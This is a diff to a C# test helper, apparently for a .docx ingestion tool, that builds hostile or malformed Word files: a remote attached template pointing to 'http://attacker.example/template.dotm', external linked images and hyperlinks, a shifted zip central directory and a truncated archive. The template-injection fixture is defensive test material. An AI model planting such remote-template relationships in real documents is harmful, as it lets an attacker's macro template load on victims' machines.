@@ -1,3 +1,4 @@
+using System.Buffers.Binary;
 using System.IO.Compression;
 using System.Text;
 
@@ -59,13 +60,55 @@ public static class HostileFiles
     });
 
     /// <summary>A remote attached template (template injection): settings relationships pointing outside.</summary>
-    public static byte[] RemoteTemplate(byte[] record) => Edit(record, zip =>
-    {
+    public static byte[] RemoteTemplate(byte[] record) => AttachedTemplate(record, "http://attacker.example/template.dotm");
+
+    /// <summary>The record with an attached template at <paramref name="target"/> (WPS and Word write their own template's path).</summary>
+    public static byte[] AttachedTemplate(byte[] record, string target) => Edit(record, zip =>
         Replace(zip, "word/_rels/settings.xml.rels",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
-            + "Target=\"http://attacker.example/template.dotm\" TargetMode=\"External\"/></Relationships>");
+            + ExternalRelationship("rId1", "attachedTemplate", target) + "</Relationships>"));
+
+    /// <summary>
+    /// The record with <paramref name="count"/> external relationships of <paramref name="type"/> (`image`: pictures
+    /// linked, not embedded; `hyperlink`) from the document, to <paramref name="target"/> followed by 1, 2, ….
+    /// </summary>
+    public static byte[] Linked(byte[] record, string type, int count, string target) => Edit(record, zip =>
+    {
+        var links = string.Concat(Enumerable.Range(1, count).Select(n => ExternalRelationship($"rLinked{type}{n}", type, $"{target}{n}")));
+        Replace(zip, "word/_rels/document.xml.rels", Read(zip, "word/_rels/document.xml.rels").Replace("</Relationships>", links + "</Relationships>"));
     });
+
+    private static string ExternalRelationship(string id, string type, string target) =>
+        $"<Relationship Id=\"{id}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" "
+        + $"Target=\"{System.Security.SecurityElement.Escape(target)}\" TargetMode=\"External\"/>";
+
+    /// <summary>
+    /// The zip's central directory offset (in the end-of-central-directory record) moved by <paramref name="by"/>
+    /// bytes: the zip opens, and fails only when its entries are read.
+    /// </summary>
+    public static byte[] ShiftedCentralDirectory(byte[] record, int by)
+    {
+        var data = record.ToArray();
+        var end = data.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
+        var offset = BinaryPrimitives.ReadUInt32LittleEndian(data.AsSpan(end + 16));
+        BinaryPrimitives.WriteUInt32LittleEndian(data.AsSpan(end + 16), (uint)(offset + by));
+        return data;
+    }
+
+    /// <summary>A .zip of records that is not a zip: what a failed upload of a quarter's batch leaves.</summary>
+    public static byte[] CorruptArchive(byte[] record) => Truncated(Archive(("一季度/记录.docx", record)));
+
+    public static byte[] Archive(params (string Name, byte[] Data)[] files)
+    {
+        using var stream = new MemoryStream();
+        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
+            foreach (var (name, data) in files)
+            {
+                using var entry = zip.CreateEntry(name).Open();
+                entry.Write(data);
+            }
+        return stream.ToArray();
+    }
 
     /// <summary>A zip of other things: no officeDocument relationship, no document part.</summary>
     public static byte[] NoMainDocument() => Edit(null, zip =>
